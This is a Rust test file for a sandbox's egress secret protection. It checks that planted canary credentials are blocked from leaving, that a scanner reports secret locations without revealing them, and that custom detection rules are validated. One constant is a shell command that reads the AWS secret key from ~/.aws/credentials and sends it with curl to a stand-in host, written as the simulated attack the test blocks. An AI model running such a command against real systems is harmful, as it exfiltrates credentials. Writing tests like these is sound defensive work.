//! Threats 18 and 21, as users meet them: canaries in a real bottle, and the scanner offline.
use crate::stage::{Ran, Stage, as_every_user};
use std::io::Write;
use std::process::Stdio;

const SECRET: &str = "own-secret-4711-abcdefghijkl";

/// Sends what a file says to the only host that may be reached, which is asked for in vain: nobody is there.
const SEND: &str = "value=$(sed -n 's/aws_secret_access_key = //p' ~/.aws/credentials); printf '%s' \"$value\"; \
                    curl -s -o /dev/null -w ' %{http_code}' -H \"X-Key: $value\" http://egress-test.invalid/";

#[test]
fn canaries_are_inside_never_leave_and_are_gone_afterwards() {
    as_every_user(|stage| {
        stage.manifest(
            "egress:\n  routes: [{ host: egress-test.invalid, scheme: http }]\n  dlp: { canaries: true, action: warn }\n",
        );
        let ran = stage.run(&["run", "--", "sh", "-c", SEND]).ended_with(0);
        let (value, status) = ran.out.rsplit_once(' ').expect("two words");
        assert_eq!((value.len(), status), (40, "403"), "{ran:?}");
        assert!(ran.err.contains("canaries in ~/.aws/credentials, ~/.env, ~/.netrc"), "{}", ran.err);
        assert!(ran.err.contains("1 finding"), "{}", ran.err);
        let logs = stage.run(&["logs", "dev"]).ended_with(0).out;
        assert!(logs.contains("canary of ~/.aws/credentials in header x-key (block"), "{logs}");
        assert!(!logs.contains(value), "{logs}");
        let home = stage.path("state").join("bottle/dev/home");
        for file in [".aws", ".env", ".netrc"] {
            assert!(!home.join(file).exists(), "{file} is left");
        }
        let again =
            stage.run(&["run", "--quiet", "--", "sh", "-c", "cat ~/.aws/credentials ~/.env ~/.netrc"]);
        let again = again.ended_with(0).out;
        assert!(
            again.contains("aws_secret_access_key") && !again.contains(value),
            "new in every run: {again}"
        );
    });
}

fn scan(stage: &Stage, arguments: &[&str], input: &str) -> Ran {
    let mut command = stage.bottle(&[&["scan"], arguments].concat());
    command.env("OWN", SECRET).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().expect("bottle starts");
    let mut pipe = child.stdin.take().expect("piped");
    // Who reads no input closes it.
    let _closed = pipe.write_all(input.as_bytes());
    drop(pipe);
    Ran::of(child.wait_with_output().expect("it ends"))
}

#[test]
fn a_scan_says_where_and_never_what() {
    let stage = Stage::ordinary();
    stage.manifest("egress: { dlp: { secrets: [{ env: OWN }] } }\n");
    stage.write("clean.txt", "nothing here\n");
    stage.write("notes.txt", &format!("one\nthe key is {SECRET}\n"));
    stage.write(
        "coded.txt",
        &format!("x = \"{}\"\n", SECRET.bytes().map(|b| format!("{b:02x}")).collect::<String>()),
    );
    scan(&stage, &["clean.txt"], "").ended_with(0);
    let ran = scan(&stage, &["clean.txt", "notes.txt", "coded.txt", "-"], SECRET).ended_with(1);
    for wanted in
        ["notes.txt:2:12  known-secret", "coded.txt:1:", "-:1:1  known-secret", "3 findings in 4 sources"]
    {
        assert!(ran.out.contains(wanted), "no {wanted:?} in {}", ran.out);
    }
    assert!(!ran.out.contains(SECRET) && !ran.err.contains(SECRET));
    let json = scan(&stage, &["--json", "notes.txt"], "").ended_with(1).out;
    let json: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert_eq!((&json["clean"], &json["findings"][0]["line"]), (&false.into(), &2.into()));
    let fingerprint = json["findings"][0]["fingerprint"].as_str().expect("a fingerprint").to_owned();
    stage.manifest(&format!(
        "egress:\n  dlp:\n    secrets: [{{ env: OWN }}]\n    allow: [{{ rule: known-secret, fingerprint: \"{fingerprint}\", reason: a test }}]\n"
    ));
    let ran = scan(&stage, &["notes.txt"], "").ended_with(0);
    assert!(ran.out.contains("allowed") && ran.out.contains("nothing found"), "{}", ran.out);
}

#[test]
fn what_cannot_be_looked_at_is_no_clean_scan() {
    let stage = Stage::ordinary();
    let ran = scan(&stage, &["missing.txt"], "").ended_with(2);
    assert!(ran.err.contains("cannot read `missing.txt`"), "{}", ran.err);
    stage.write("x.har", "{}");
    assert!(scan(&stage, &["--har", "x.har"], "").ended_with(2).err.contains("is no HAR"));
    stage.manifest("egress: { dlp: { actoin: warn } }\n");
    assert!(scan(&stage, &["-"], "").ended_with(2).err.contains("did you mean `action`?"));
}

#[test]
fn the_rules_are_listed_with_what_they_find() {
    let stage = Stage::ordinary();
    let ran = scan(&stage, &["--rules"], "").ended_with(0);
    assert!(
        ran.out.contains("gitlab-personal-token  ") && ran.out.contains("GitLab personal"),
        "{}",
        ran.out
    );
}

const FILE: &str = "[extend]\nuseDefault = true\ndisabledRules = [\"npm-token\", \"nobodys\"]\n\
                    [[rules]]\nid = \"corp-id\"\nregex = 'corp-([A-Z]{8})'\npath = 'x'\n";
const OWN_RULE: &str =
    "own_rules: [{ id: acme-key, pattern: \"acme_[a-z0-9]{12}\", description: a key of acme }]";

/// A manifest with both, and `more` keys under `dlp`.
fn with_rules(stage: &Stage, more: &str) {
    stage.write("rules.toml", FILE);
    stage.manifest(&format!(
        "egress:\n  routes: [{{ host: a.test }}]\n  dlp: {{ rule_files: [rules.toml], {OWN_RULE}{more} }}\n"
    ));
}

#[test]
fn rules_of_ones_own_and_of_files_are_sought() {
    let stage = Stage::ordinary();
    with_rules(&stage, ", rules: { corp-id: warn, acme-key: { in: redact } }");
    stage.write("notes.txt", "a\nthe acme_k3j4h5g6f7d8 and corp-QWERTZUI\n");
    let ran = scan(&stage, &["notes.txt"], "").ended_with(1);
    assert!(
        ran.out.contains("notes.txt:2:5  acme-key  a key of acme, 17 bytes, fingerprint "),
        "{}",
        ran.out
    );
    assert!(ran.out.contains("notes.txt:2:32  corp-id") && ran.out.contains("2 findings"), "{}", ran.out);
    let listed = scan(&stage, &["--rules"], "").ended_with(0).out;
    assert!(listed.contains("acme-key ") && listed.contains("corp-id "), "{listed}");
    assert!(listed.contains("gitlab-personal-token ") && !listed.contains("npm-token"), "{listed}");

    let ran = stage.run(&["check"]).ended_with(0);
    for wanted in [
        "rules.toml:7:8: `path` of `corp-id` is not used",
        "rules.toml: `disabledRules` names `nobodys`, which is none of the built-in rules",
    ] {
        assert!(ran.err.contains(wanted), "no {wanted:?} in {}", ran.err);
    }
    for wanted in [
        " built-in rules, 1 of the manifest's own, 1 of /",
        "`corp-id`: warn",
        "`acme-key` in what comes back: redact",
    ] {
        assert!(ran.out.contains(wanted), "no {wanted:?} in {}", ran.out);
    }
    let json: serde_json::Value =
        serde_json::from_str(&stage.run(&["check", "--json"]).ended_with(0).out).expect("JSON");
    assert_eq!((&json["rules"]["own"], &json["rules"]["files"][0]["rules"]), (&1.into(), &1.into()));
    assert_eq!(json["problems"].as_array().expect("a list").len(), 2, "{}", json["problems"]);
    let told = stage.run(&["explain", "GET", "https://a.test/"]).ended_with(0).out;
    assert!(
        told.contains("secrets     what is found in it: block") && told.contains("`corp-id`: warn"),
        "{told}"
    );
}

#[test]
fn rules_that_cannot_be_used_are_told_with_their_place_by_every_command() {
    let stage = Stage::ordinary();
    with_rules(&stage, "");
    stage.write(
        "rules.toml",
        "[[rules]]\nid = \"a\"\nregex = 'corp('\n[[rules]]\nid = \"canary\"\nregex = 'corp'\nentropy = 'x'\n",
    );
    let all: [(&[&str], i32); 5] = [
        (&["check"], 2),
        (&["check", "--json"], 2),
        (&["explain", "GET", "https://a.test/"], 2),
        (&["scan", "bottle.yaml"], 2),
        (&["run", "--", "true"], 125),
    ];
    for (arguments, code) in all {
        let ran = stage.run(arguments).ended_with(code);
        let said = format!("{}{}", ran.out, ran.err);
        for wanted in [
            "rules.toml:3:9: the pattern of `a` is no regular expression: unclosed group",
            "rules.toml:7:11: `entropy` is no number",
        ] {
            assert!(said.contains(wanted), "{arguments:?}: no {wanted:?} in {said}");
        }
        assert!(said.contains("take it out of `dlp.rule_files`"), "{said}");
    }
    stage.write("rules.toml", "[[rules]]\nid = \"canary\"\nregex = 'corp'\n");
    let told = stage.run(&["check"]).ended_with(2).err;
    assert!(told.contains("`canary` is what findings of another kind are called"), "{told}");
    with_rules(&stage, ", rules: { corp-ids: warn, npm-token: block }");
    let told = stage.run(&["check"]).ended_with(2).err;
    assert!(told.contains("`corp-ids`, `npm-token`") && told.contains("no such rule"), "{told}");
    with_rules(&stage, "");
    stage.write(
        "rules.toml",
        "[[rules]]\nid = \"jwt\"\nregex = 'corp-[a-z]{9}'\n[[rules]]\nid = \"any\"\nregex = '[a-z]{40}'\n",
    );
    let told = stage.run(&["check"]).ended_with(0).err;
    assert!(told.contains("rules.toml: in place of the rules of those names: `jwt`"), "{told}");
    assert!(told.contains("rules.toml: tried at every byte") && told.contains("matches: `any`"), "{told}");
    std::fs::write(stage.path("work/rules.toml"), vec![b'#'; 2 << 20]).expect("written");
    assert!(stage.run(&["check"]).ended_with(2).err.contains("larger than 1 MiB"));
}

#[test]
fn folders_are_looked_through_and_findings_come_as_they_are_found() {
    let stage = Stage::ordinary();
    stage.manifest("egress: { dlp: { secrets: [{ env: OWN }] } }\n");
    for folder in ["src", "src/deep", ".git"] {
        stage.folder(folder);
    }
    for file in ["src/deep/a.txt", "src/b.txt", ".git/config"] {
        stage.write(file, SECRET);
    }
    stage.write("src/c.txt", "nothing");
    let ran = scan(&stage, &["src", ".", "missing"], "").ended_with(2);
    let (deep, shallow) = (ran.out.find("src/deep/a.txt:1:1"), ran.out.find("src/b.txt:1:1"));
    assert!(shallow < deep && shallow.is_some(), "{}", ran.out);
    assert!(!ran.out.contains(".git/config") && ran.out.contains("4 findings in 8 sources"), "{}", ran.out);
    assert!(ran.err.contains("cannot read `missing`"), "what is found beside it is told: {}", ran.err);
}
